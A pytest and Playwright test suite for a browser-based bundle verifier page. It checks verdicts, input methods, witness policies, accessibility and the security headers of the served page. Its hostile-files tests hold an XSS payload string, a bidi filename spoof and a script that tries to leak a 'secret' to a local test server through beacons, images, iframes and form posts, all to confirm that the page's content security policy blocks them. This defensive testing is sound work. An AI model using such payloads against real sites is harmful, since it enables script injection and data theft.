"""The committed page in a real Chromium, from the disk and from a server: what it says of every
frozen bundle, that it asks nobody, and that nothing in a bundle runs or breaks it."""

import json
import random
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from nacl.signing import SigningKey
from playwright.sync_api import BrowserContext, expect
from playwright.sync_api import Error as BrowserError
from typer.testing import CliRunner

from ledger.cli.app import app
from ledger.console.pages import VERIFIER
from ledger.domain.canonical import canonical_json
from ledger.verify.encoding import encode_base64
from ledger.verify.note import COSIGNATURE, cosign_text, format_vkey, parse_note, vkey_of
from ledger.verify.policy import parse_policy
from tests.browser.verifier_world import (
    BUNDLES,
    PAGE_URL,
    Verifier,
    comparable,
    open_verifier,
    python_says,
    whole_bundle,
)
from tests.unit.lineage_world import World
from tests.unit.test_docs import service

ANSWER = (BUNDLES / "v1" / "answer.lineage.json").read_bytes()
EXPECTED = {
    version: json.loads((BUNDLES / version / "expected.json").read_bytes())
    for version in ("v1", "v2")
}
MEGABYTES = 2**20
LONGEST_BLOCK_MS = 3_000
"""Of the page, on a slow and busy machine; one piece of work without a yield takes under 1 s."""


def frozen(version: str, kind: str) -> list[tuple[str, dict[str, Any], bytes]]:
    prefix = "bad-" if kind == "bad" else ""
    return [
        (name, want, (BUNDLES / version / f"{prefix}{name}.lineage.json").read_bytes())
        for name, want in EXPECTED[version][kind].items()
    ]


@pytest.mark.parametrize("version", ["v1", "v2"])
def test_good_bundles_verify(verifier: Verifier, version: str) -> None:
    vkey = EXPECTED[version]["vkey"]
    for name, want, data in frozen(version, "good"):
        witnesses = want.get("witness_vkeys", [])
        said = verifier.verify(data, vkey=vkey, witnesses="\n".join(witnesses))
        assert said == python_says(data, trusted_vkey=vkey, witness_vkeys=witnesses), name
        assert [step["status"] for step in said["steps"]] == want["steps"]
        assert said["facts"]["subject_index"] == want["subject_index"]
        page = verifier.page
        expect(page.locator("#verdict h2")).to_have_text("Verified")
        assert page.locator(".steps [data-status]").count() == len(want["steps"])
        assert page.locator(".proven li").all_text_contents() == said["proven"]
        assert page.locator("#lineage .node").count() > 0
    check_silent(verifier)


@pytest.mark.parametrize("version", ["v1", "v2"])
def test_bad_bundles_fail_where_they_should(verifier: Verifier, version: str) -> None:
    for name, want, data in frozen(version, "bad"):
        witnesses = want.get("witness_vkeys", [])
        said = verifier.verify(data, witnesses="\n".join(witnesses))
        where = {"field": want["field"], "entry": want["entry"]}
        assert (said["verified"], said["error"], said["detail"]) == (False, want["error"], where)
        python = python_says(data, witness_vkeys=witnesses)
        assert comparable(said) == comparable(python), name
        page = verifier.page
        expect(page.locator("#verdict h2")).to_have_text("Not verified")
        failed = page.locator('.steps [data-status="failed"]')
        assert failed.count() == 1
        assert failed.get_attribute("data-step") == str(said["failed_step"])
        assert page.locator(".proven").count() == 0
    check_silent(verifier)


def check_silent(verifier: Verifier) -> None:
    """It asked for nothing but itself, and broke no rule of its own policy."""
    assert [url for url in verifier.requests if url != PAGE_URL] == []
    assert verifier.violations == []
    assert verifier.messages == []


def test_the_failed_entry_is_marked_in_the_picture(verifier: Verifier) -> None:
    said = verifier.verify((BUNDLES / "v1" / "bad-entry-altered.lineage.json").read_bytes())
    assert said["detail"]["entry"] == 1
    broken = verifier.page.locator("#lineage .node.broken")
    assert broken.count() == 1
    assert "failed here" in (broken.get_attribute("aria-label") or "")
    assert "As the file claims it. Not verified." in verifier.page.locator("#lineage").inner_text()


# --- ways in ------------------------------------------------------------------------------------


def test_drop(verifier: Verifier) -> None:
    transfer = verifier.page.evaluate_handle(
        """(text) => {
          const transfer = new DataTransfer();
          transfer.items.add(new File([text], "dropped.lineage.json"));
          return transfer;
        }""",
        ANSWER.decode(),
    )
    verifier.page.dispatch_event("main", "dragenter", {"dataTransfer": transfer})
    assert verifier.page.locator("#veil").is_visible()
    verifier.page.dispatch_event("main", "drop", {"dataTransfer": transfer})
    assert verifier.state() == "verified"
    assert not verifier.page.locator("#veil").is_visible()
    assert verifier.page.locator("#name").inner_text() == "dropped.lineage.json"


def test_choose_and_paste(verifier: Verifier) -> None:
    page = verifier.page
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Choose a file").click()
    chooser.value.set_files(BUNDLES / "v1" / "contribution.lineage.json")
    assert verifier.state() == "verified"
    page.get_by_text("Paste a bundle as text").click()
    page.fill("#text", f"\n{ANSWER.decode()}\n")
    page.get_by_role("button", name="Verify this text").click()
    expect(page.locator("#name")).to_have_text("pasted text")
    assert verifier.verdict()["facts"]["subject_index"] == 10


# --- what the reader trusts ---------------------------------------------------------------------


def test_another_log_key_fails_and_no_key_at_all_is_said_beside_its_field(
    verifier: Verifier,
) -> None:
    other = format_vkey(vkey_of("ledger.example/test", SigningKey(bytes(32))))
    said = verifier.verify(ANSWER, vkey=other)
    assert comparable(said) == comparable(python_says(ANSWER, trusted_vkey=other))
    assert (said["error"], said["failed_step"]) == ("bad-signature", 2)
    verifier.trust(vkey="ledger.example/test+421031f3+non-sense")
    assert verifier.state() == "problem"
    assert verifier.page.locator("#vkey").get_attribute("aria-invalid") == "true"
    assert "base64" in verifier.page.locator("#vkey-error").inner_text()
    verifier.trust(vkey=f" {EXPECTED['v1']['vkey']}\n")
    assert verifier.verdict()["verified"]
    assert verifier.page.locator("#trusting").inner_text() == "log key"


def test_required_l1(verifier: Verifier) -> None:
    data = (BUNDLES / "v1" / "contribution.lineage.json").read_bytes()
    said = verifier.verify(data, require_l1=True)
    assert comparable(said) == comparable(python_says(data, require_l1=True))
    assert said["error"] == "anchor-mismatch"
    assert verifier.verify(ANSWER, require_l1=True)["verified"]


POLICY = """
log {log}
witness a {a} https://witness.example
witness b {b}
witness c {c}
group both all a b
group some any both c   # a comment is no comment here
quorum some
""".replace("   # a comment is no comment here", "")


def test_witness_policies(verifier: Verifier, tmp_path: Path) -> None:
    """Cosigned by a and b; the quorum is met by both, and not when one of them is silent."""
    world = World(tmp_path).tell()
    keys = {name: SigningKey(name.encode() * 32) for name in "abc"}
    vkeys = {
        name: format_vkey(vkey_of(f"witness.example/{name}", key, COSIGNATURE))
        for name, key in keys.items()
    }
    policy = POLICY.format(log=world.vkey, **vkeys)
    value = json.loads(whole_bundle(world, "inference.recorded"))
    text = parse_note(value["checkpoint"].encode()).text
    for name in "ab":
        line = cosign_text(text, f"witness.example/{name}", keys[name], 1_700_000_000)
        blob = line.key_id + line.signature
        value["checkpoint"] += f"— {line.name} {encode_base64(blob)}\n"
        data = canonical_json(value)
        said = verifier.verify(data, witnesses=policy)
        assert comparable(said) == comparable(python_says(data, policy=parse_policy(policy)))
    assert said["facts"]["policy"] == "1 of the 1 needed in some; without c"
    for wrong in ("quorum nobody", policy + "quorum some\n", "witness a x\nquorum none"):
        verifier.trust(witnesses=wrong)
        assert verifier.state() == "problem"
        assert "olicy" in verifier.page.locator("#witnesses-error").inner_text()


# --- hostile files ------------------------------------------------------------------------------

EVIL = '<img src=x onerror="alert(1)"></script><script>alert(2)</script>'
BIDI = "evil\u202egnp.exe"


def test_markup_in_names_is_text(verifier: Verifier, tmp_path: Path) -> None:
    verifier.page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    world = World(tmp_path).tell(
        {
            "datanet.created": lambda body: {**body, "name": EVIL, "description": EVIL * 20},
            "recorded ann": lambda body: {**body, "title": EVIL},
            "recorded ben": lambda body: {**body, "title": BIDI},
            "run.requested": lambda body: {**body, "name": EVIL, "config": {EVIL: EVIL}},
        }
    )
    said = verifier.verify(whole_bundle(world, "datanet.created"))
    assert said["verified"]
    page = verifier.page
    assert page.locator("img, main script, iframe, object").count() == 0
    assert page.locator(".opened dd").get_by_text(EVIL, exact=True).count() == 1
    names = [n.get_attribute("aria-label") or "" for n in page.locator(".node").all()]
    assert any(name.startswith("datanet, <img src=x") for name in names)
    assert any("evil?gnp.exe" in name for name in names)
    check_silent(verifier)


GARBAGE = {
    "random": lambda: random.Random(1).randbytes(20 * MEGABYTES),
    "brackets": lambda: b"[" * (20 * MEGABYTES),
    "open string": lambda: b'"' + b"\\" * (20 * MEGABYTES),
    "objects": lambda: b"[" + b"{}," * (7 * MEGABYTES) + b"0]",
    "one string": lambda: b'{"format":"' + b"x" * (20 * MEGABYTES) + b'"}',
    "a long list": lambda: canonical_json(
        {**json.loads(ANSWER), "hashes": ["ab" * 32] * (20 * MEGABYTES // 67)}
    ),
}


@pytest.mark.parametrize("kind", GARBAGE)
def test_twenty_megabytes_of_garbage(verifier: Verifier, tmp_path: Path, kind: str) -> None:
    """A clear error, and a page that answers all the while."""
    file = tmp_path / "garbage.lineage.json"
    file.write_bytes(GARBAGE[kind]())
    verifier.page.evaluate(
        """() => {
          globalThis.longest = 0;
          new PerformanceObserver((list) => {
            for (const { duration } of list.getEntries()) longest = Math.max(longest, duration);
          }).observe({ type: "longtask" });
        }"""
    )
    verifier.page.set_input_files("#file", file)
    said = verifier.verdict()
    assert (said["error"], said["failed_step"]) == ("malformed-proof", 1)
    assert verifier.page.evaluate("longest") < LONGEST_BLOCK_MS
    check_silent(verifier)


def test_too_large_a_file_is_not_even_read(verifier: Verifier, tmp_path: Path) -> None:
    file = tmp_path / "large.lineage.json"
    with file.open("wb") as handle:
        handle.truncate(65 * MEGABYTES)
    verifier.page.set_input_files("#file", file)
    assert verifier.state() == "problem"
    assert "at most 64.0 MiB" in verifier.page.locator("#verdict").inner_text()


@contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server that counts who comes."""
    visits: list[str] = []

    class Visit(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            visits.append(self.path)
            self.send_response(200)
            self.send_header("access-control-allow-origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Visit)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", visits
    finally:
        server.shutdown()
        server.server_close()


def test_the_policy_holds(verifier: Verifier, context: BrowserContext) -> None:
    """What a hole in our code would try: to send, to run, to make markup of text."""
    page = verifier.page
    with listener() as (url, visits):
        free = context.new_page()
        free.goto(VERIFIER.parent.as_uri())  # a folder: no policy
        free.evaluate(f"fetch('{url}/control')")
        assert visits == ["/control"]
        page.evaluate(LEAKS, url)
        with pytest.raises(BrowserError, match="Failed to fetch"):
            page.evaluate(f"fetch('{url}/fetch')")
        with pytest.raises(BrowserError, match="TrustedHTML"):
            page.evaluate("document.body.innerHTML = '<b>x</b>'")
        page.wait_for_timeout(300)
        assert visits == ["/control"]
    assert page.evaluate("globalThis.ran") is None
    assert {"connect-src", "img-src", "require-trusted-types-for"} <= set(verifier.violations)


LEAKS = """(url) => {
  const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
  const script = document.createElement("script");
  script.append("globalThis.ran = true");
  document.body.append(script);
  setTimeout(() => new Function("globalThis.ran = true")());
  add("img", { src: `${url}/image` });
  add("link", { rel: "stylesheet", href: `${url}/style` });
  add("iframe", { src: `${url}/frame` });
  add("video", { src: `${url}/video` });
  add("link", { rel: "prefetch", href: `${url}/prefetch` });
  navigator.sendBeacon(`${url}/beacon`, "secret");
  new EventSource(`${url}/events`);
  document.body.style.backgroundImage = `url(${url}/background)`;
  const form = document.createElement("form");
  Object.assign(form, { action: `${url}/form`, method: "POST", target: "_blank" });
  document.body.append(form);
  form.submit();
}"""


# --- reading it ---------------------------------------------------------------------------------


def test_the_picture_by_keyboard(verifier: Verifier) -> None:
    verifier.verify(ANSWER)
    page = verifier.page
    subject = page.locator(".node.subject")
    assert subject.get_attribute("aria-pressed") == "true"
    expect(page.locator(".opened h3").first).to_contain_text("attribution.recorded")
    subject.focus()
    for _ in range(5):
        page.keyboard.press("ArrowLeft")
    assert (page.locator(".node:focus").get_attribute("aria-label") or "").startswith("datanet")
    page.keyboard.press("Enter")
    expect(page.locator("#lineage .opened h3").first).to_contain_text("datanet.created")


def test_it_reads_itself_out(verifier: Verifier) -> None:
    """The verdict is a live region, buttons and fields have names, the title says the result."""
    assert verifier.page.locator("#verdict").get_attribute("aria-live") == "polite"
    verifier.verify(ANSWER)
    assert verifier.page.title() == "Verified: test.lineage.json"
    for element in verifier.page.locator("button, input:not([hidden]), textarea").all():
        name = element.evaluate("(e) => e.textContent || e.labels?.[0]?.textContent")
        assert name, element.evaluate("(e) => e.outerHTML")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_contrast(verifier: Verifier, scheme: str) -> None:
    """Text against what is behind it: at least 4.5 to 1 (WCAG 2.2, 1.4.3)."""
    verifier.page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
    for data in (ANSWER, (BUNDLES / "v1" / "bad-entry-altered.lineage.json").read_bytes()):
        verifier.verify(data)
        weak = verifier.page.evaluate(CONTRAST)
        assert weak == []


CONTRAST = """() => {
  const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
  const rgba = (color) => {
    canvas.clearRect(0, 0, 1, 1);
    canvas.fillStyle = color;
    canvas.fillRect(0, 0, 1, 1);
    return [...canvas.getImageData(0, 0, 1, 1).data];
  };
  const light = ([r, g, b]) => [r, g, b]
    .map((c) => c / 255).map((c) => (c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4))
    .reduce((sum, c, n) => sum + c * [0.2126, 0.7152, 0.0722][n], 0);
  const weak = [];
  for (const element of document.querySelectorAll("main *, header *, footer *")) {
    const own = [...element.childNodes].some((n) => n.nodeType === 3 && n.data.trim());
    if (!own || element.closest("svg") || !element.checkVisibility()) continue;
    let behind = element;
    while (behind && rgba(getComputedStyle(behind).backgroundColor)[3] < 255) {
      behind = behind.parentElement;
    }
    const back = light(rgba(getComputedStyle(behind ?? document.body).backgroundColor));
    const front = light(rgba(getComputedStyle(element).color));
    const ratio = (Math.max(back, front) + 0.05) / (Math.min(back, front) + 0.05);
    if (ratio < 4.5) weak.push(`${element.tagName}.${element.className} ${ratio.toFixed(2)}`);
  }
  return weak;
}"""


def test_nothing_is_wider_than_a_small_screen(verifier: Verifier) -> None:
    verifier.page.set_viewport_size({"width": 360, "height": 740})
    verifier.verify(ANSWER)
    assert verifier.page.evaluate("document.documentElement.scrollWidth") == 360


# --- other places -------------------------------------------------------------------------------


def test_without_webcrypto_the_verdict_is_the_same(context: BrowserContext) -> None:
    """As on a page from plain http: no crypto.subtle there."""
    bare = "Object.defineProperty(crypto, 'subtle', { value: undefined })"
    verifier = open_verifier(context, script=bare)
    assert verifier.page.evaluate("crypto.subtle === undefined")
    assert verifier.verify(ANSWER) == python_says(ANSWER)
    forged = (BUNDLES / "v1" / "bad-signature-forged.lineage.json").read_bytes()
    assert comparable(verifier.verify(forged)) == comparable(python_says(forged))


def test_the_exported_file_is_the_page(context: BrowserContext, tmp_path: Path) -> None:
    target = tmp_path / "verifier.html"
    done = CliRunner().invoke(app, ["verifier", "export", str(target)])
    assert done.exit_code == 0, done.output
    assert target.read_bytes() == VERIFIER.read_bytes()
    assert open_verifier(context, target.as_uri()).verify(ANSWER)["verified"]


def test_the_server_serves_it(context: BrowserContext, tmp_path: Path, pg_url: str) -> None:
    with service(tmp_path / "home", pg_url) as url:
        answer = httpx.get(f"{url}/verifier")
        assert answer.content == VERIFIER.read_bytes()
        assert answer.headers["content-type"] == "text/html; charset=utf-8"
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "connect-src 'none'" in policy
        assert "frame-ancestors 'none'" in policy
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["referrer-policy"] == "no-referrer"
        verifier = open_verifier(context, f"{url}/verifier")
        assert verifier.verify(ANSWER) == python_says(ANSWER)
        assert verifier.requests == [f"{url}/verifier"]
        assert verifier.violations == []
        frame = open_verifier(context)
        frame.page.goto("about:blank")
        frame.page.set_content(f'<iframe src="{url}/verifier"></iframe>')
        frame.page.wait_for_function("() => frames.length === 1")
        assert frame.page.frames[-1].get_by_text("Lineage verifier").count() == 0
